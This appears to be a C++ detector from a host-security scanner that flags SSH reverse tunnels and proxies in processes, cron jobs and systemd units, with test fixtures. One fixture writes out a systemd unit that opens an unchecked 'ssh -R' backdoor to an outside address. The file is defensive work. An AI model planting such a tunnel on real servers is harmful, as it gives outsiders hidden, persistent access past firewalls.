// SPDX-License-Identifier: Apache-2.0
#include "base/text.h"
#include "sweep/host/code/process_words.h"
#include "sweep/kit/detector.h"

namespace abate::sweep {
namespace {

bool is_tunnel(std::string_view command) {
  const std::string text = fmt::format(" {} ", command);
  const std::size_t ssh = text.find("ssh ");
  if (ssh == std::string::npos || (ssh > 0 && text[ssh - 1] != ' ' && text[ssh - 1] != '/' && text[ssh - 1] != 'o'))
    return false;  // "autossh " and "/usr/bin/ssh " too
  const std::string_view options = std::string_view{text}.substr(ssh);
  return options.find(" -R") != std::string_view::npos || options.find(" -D") != std::string_view::npos ||
         options.find("NR ") != std::string_view::npos || options.find("fNR") != std::string_view::npos ||
         options.find("RemoteForward") != std::string_view::npos;
}

bool hides(std::string_view command) {
  return command.find("StrictHostKeyChecking=no") != std::string_view::npos ||
         command.find("UserKnownHostsFile=/dev/null") != std::string_view::npos;
}

Severity severity_of(const Host& host, std::optional<std::uint32_t> uid, std::string_view command) {
  const bool service = uid && *uid != 0 && (*uid < 1000 || host.is_web_user(*uid));
  return service || hides(command) ? Severity::suspicious : Severity::note;
}

void look(const Host& host, Findings& out) {
  for (const Process& process : host.processes) {
    const std::string_view name = file_name(process.exe);
    if (name != "ssh" && name != "autossh" && name != "dbclient") continue;
    const std::string command = join(process.arguments, " ");
    if (!is_tunnel(command)) continue;
    Finding& finding = out.add(process_subject(process), "ssh keeps a way into this server, or through it, open");
    finding.severity = severity_of(host, process.uid, command);
    fill_process(host, process, "tunnel", finding);
  }
  for (const Autostart& start : host.autostarts) {
    if (start.packaged || start.kind == AutostartKind::shell_rc || !is_tunnel(start.command)) continue;
    const bool job = start.kind == AutostartKind::cron || start.kind == AutostartKind::at;
    const bool unit = start.kind == AutostartKind::unit || start.kind == AutostartKind::user_unit;
    Finding& finding = out.add({.kind = job    ? SubjectKind::cron
                                        : unit ? SubjectKind::unit
                                               : SubjectKind::config,
                                .path = start.path,
                                .name = start.name,
                                .line = start.line},
                               "ssh opens a way into this server, or through it, and comes back by itself");
    const Account* account = host.account(start.account);
    finding.severity =
        severity_of(host, account != nullptr ? std::optional{account->uid} : std::nullopt, start.command);
    finding.evidence.push_back(fmt::format("{}:{}: {}", start.path, start.line, start.command.substr(0, 300)));
    finding.at = start.modified;
    if (account != nullptr) finding.uid = account->uid;
    finding.role = "tunnel";
  }
}

constexpr Example kExamples[] = {{"a unit that asks nothing", R"TREE(--- /etc/passwd
root:x:0:0::/root:/bin/bash
www-data:x:33:33::/var/www:/usr/sbin/nologin
anna:x:1000:1000::/home/anna:/bin/bash
--- /etc/systemd/system/link.service
[Service]
ExecStart=/usr/bin/ssh -N -o StrictHostKeyChecking=no -R 2222:localhost:22 x@198.51.100.9
)TREE",
                                  1},
                                 {"a copy", R"TREE(--- /etc/passwd
root:x:0:0::/root:/bin/bash
www-data:x:33:33::/var/www:/usr/sbin/nologin
anna:x:1000:1000::/home/anna:/bin/bash
--- /var/spool/cron/crontabs/root
5 4 * * * rsync -a -e "ssh -p 2222" /srv/ backup@192.0.2.5:/srv/
)TREE",
                                  0}};

}  // namespace

extern const Detector reverse_tunnel_detector;
constinit const Detector reverse_tunnel_detector{
    .id = "reverse_tunnel",
    .area = Area::processes,
    .severity = Severity::suspicious,
    .title = "ssh keeps a way into this server open",
    .explain =
        R"TEXT(ssh -R lets whoever is at the other end come back in, past any firewall; ssh -D makes a proxy of the connection. Administrators use both. It is called suspicious where the account of a service or a web site does so, or where the key of the other end is on purpose not checked; else it is a note.
What to do: ask whose it is; look what starts it again.)TEXT",
    .host = look,
    .examples = kExamples};

}  // namespace abate::sweep
